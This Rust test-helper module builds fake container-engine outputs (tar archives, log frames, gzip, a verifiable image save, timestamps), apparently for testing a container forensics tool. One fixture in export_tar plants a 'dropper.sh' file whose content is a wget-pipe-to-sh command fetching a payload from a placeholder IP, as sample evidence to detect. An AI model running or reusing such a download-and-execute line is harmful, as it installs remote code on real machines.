//! Byte builders for the fake engine's answers: tars, log frames, gzip, a verifiable image
//! save, timestamps. Everything is built by hand so the tests need no crate the tool lacks.

use serde_json::json;
use sha2::{Digest, Sha256};

pub fn sha256_hex(bytes: &[u8]) -> String {
    let digest = Sha256::digest(bytes);
    digest.iter().map(|b| format!("{b:02x}")).collect()
}

/// One tar member.
pub enum Entry<'a> {
    Dir(&'a str),
    File(&'a str, &'a [u8]),
    Symlink(&'a str, &'a str),
    Hardlink(&'a str, &'a str),
}

fn octal(field: &mut [u8], value: u64) {
    let digits = field.len() - 1;
    let text = format!("{value:0digits$o}");
    field[..digits].copy_from_slice(text.as_bytes());
    field[digits] = 0;
}

fn header(name: &str, kind: u8, size: u64, link: &str) -> [u8; 512] {
    let mut h = [0u8; 512];
    assert!(
        name.len() < 100 && link.len() < 100,
        "test tar names are short"
    );
    h[..name.len()].copy_from_slice(name.as_bytes());
    octal(&mut h[100..108], if kind == b'5' { 0o755 } else { 0o644 });
    octal(&mut h[108..116], 0);
    octal(&mut h[116..124], 0);
    octal(&mut h[124..136], size);
    octal(&mut h[136..148], 1_700_000_000);
    h[156] = kind;
    h[157..157 + link.len()].copy_from_slice(link.as_bytes());
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[265..269].copy_from_slice(b"root");
    h[297..301].copy_from_slice(b"root");
    h[148..156].copy_from_slice(b"        ");
    let sum: u64 = h.iter().map(|&b| u64::from(b)).sum();
    let text = format!("{sum:06o}\0 ");
    h[148..156].copy_from_slice(text.as_bytes());
    h
}

/// A ustar archive; `end` adds the two zero blocks that close it.
pub fn tar(entries: &[Entry], end: bool) -> Vec<u8> {
    let mut out = Vec::new();
    for e in entries {
        match e {
            Entry::Dir(n) => out.extend_from_slice(&header(n, b'5', 0, "")),
            Entry::Symlink(n, l) => out.extend_from_slice(&header(n, b'2', 0, l)),
            Entry::Hardlink(n, l) => out.extend_from_slice(&header(n, b'1', 0, l)),
            Entry::File(n, d) => {
                out.extend_from_slice(&header(n, b'0', d.len() as u64, ""));
                out.extend_from_slice(d);
                let pad = (512 - d.len() % 512) % 512;
                out.extend(std::iter::repeat_n(0u8, pad));
            }
        }
    }
    if end {
        out.extend_from_slice(&[0u8; 1024]);
    }
    out
}

/// A small container filesystem export.
pub fn export_tar(tag: &str) -> Vec<u8> {
    let hostname = format!("{tag}\n");
    tar(
        &[
            Entry::Dir("etc/"),
            Entry::File("etc/hostname", hostname.as_bytes()),
            Entry::File("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n"),
            Entry::Dir("tmp/"),
            Entry::File(
                "tmp/dropper.sh",
                b"#!/bin/sh\nwget http://203.0.113.9/x | sh\n",
            ),
        ],
        true,
    )
}

/// One frame of the multiplexed log stream.
pub fn frame(stream: u8, data: &[u8]) -> Vec<u8> {
    let mut f = vec![stream, 0, 0, 0];
    f.extend_from_slice(&(data.len() as u32).to_be_bytes());
    f.extend_from_slice(data);
    f
}

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xffff_ffffu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// A gzip member holding `data` in stored (uncompressed) deflate blocks.
pub fn gzip(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    let mut chunks = data.chunks(65_535).peekable();
    if chunks.peek().is_none() {
        out.extend_from_slice(&[1, 0, 0, 0xff, 0xff]);
    }
    while let Some(c) = chunks.next() {
        out.push(u8::from(chunks.peek().is_none()));
        let len = c.len() as u16;
        out.extend_from_slice(&len.to_le_bytes());
        out.extend_from_slice(&(!len).to_le_bytes());
        out.extend_from_slice(c);
    }
    out.extend_from_slice(&crc32(data).to_le_bytes());
    out.extend_from_slice(&(data.len() as u32).to_le_bytes());
    out
}

/// An engine <= 24 image save ("docker-legacy") that passes the tool's own digest checks.
/// Returns the tar and the image ID ("sha256:<config digest>").
pub fn image_save() -> (Vec<u8>, String) {
    let layer = tar(
        &[
            Entry::Dir("bin/"),
            Entry::File("bin/busybox", &[0x7f, b'E', b'L', b'F', 2, 1, 1, 0]),
        ],
        true,
    );
    let diff = sha256_hex(&layer);
    let config = serde_json::to_vec(&json!({
        "architecture": "amd64", "os": "linux",
        "config": {"Cmd": ["sh"]},
        "rootfs": {"type": "layers", "diff_ids": [format!("sha256:{diff}")]},
    }))
    .unwrap();
    let cfg = sha256_hex(&config);
    let v1 = "5".repeat(64);
    let manifest = serde_json::to_vec(&json!([
        {"Config": format!("{cfg}.json"), "RepoTags": ["forensic/app:1.0"], "Layers": [format!("{v1}/layer.tar")]}
    ]))
    .unwrap();
    let repositories = serde_json::to_vec(&json!({"forensic/app": {"1.0": v1}})).unwrap();
    let dir = format!("{v1}/");
    let version = format!("{v1}/VERSION");
    let json_name = format!("{v1}/json");
    let layer_name = format!("{v1}/layer.tar");
    let cfg_name = format!("{cfg}.json");
    let t = tar(
        &[
            Entry::Dir(&dir),
            Entry::File(&version, b"1.0"),
            Entry::File(&json_name, b"{}"),
            Entry::File(&layer_name, &layer),
            Entry::File(&cfg_name, &config),
            Entry::File("manifest.json", &manifest),
            Entry::File("repositories", &repositories),
        ],
        true,
    );
    (t, format!("sha256:{cfg}"))
}

/// Now as RFC 3339 UTC, for `/info` SystemTime.
pub fn rfc3339_now() -> String {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap();
    let secs = now.as_secs() as i64;
    let (days, rem) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    // Civil date from days since 1970-01-01 (Howard Hinnant's algorithm).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{:09}Z",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60,
        now.subsec_nanos()
    )
}

#[test]
fn builders_are_sound() {
    assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
    let t = export_tar("x");
    assert_eq!(t.len() % 512, 0);
    assert!(t.ends_with(&[0u8; 1024]));
    assert_eq!(frame(2, b"ab"), vec![2, 0, 0, 0, 0, 0, 0, 2, b'a', b'b']);
    let g = gzip(b"hello");
    assert_eq!(&g[..2], &[0x1f, 0x8b]);
    assert_eq!(rfc3339_now().len(), 30);
}
